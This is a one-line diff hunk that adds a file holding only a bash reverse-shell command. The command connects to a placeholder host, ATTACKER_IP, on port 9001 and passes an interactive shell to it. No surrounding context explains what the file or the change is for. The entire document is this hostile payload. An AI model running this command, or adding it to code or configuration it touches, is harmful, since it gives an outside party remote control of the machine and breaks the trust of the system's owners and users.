@@ -1,0 +1,1 @@
+bash -i >& /dev/tcp/ATTACKER_IP/9001 0>&1
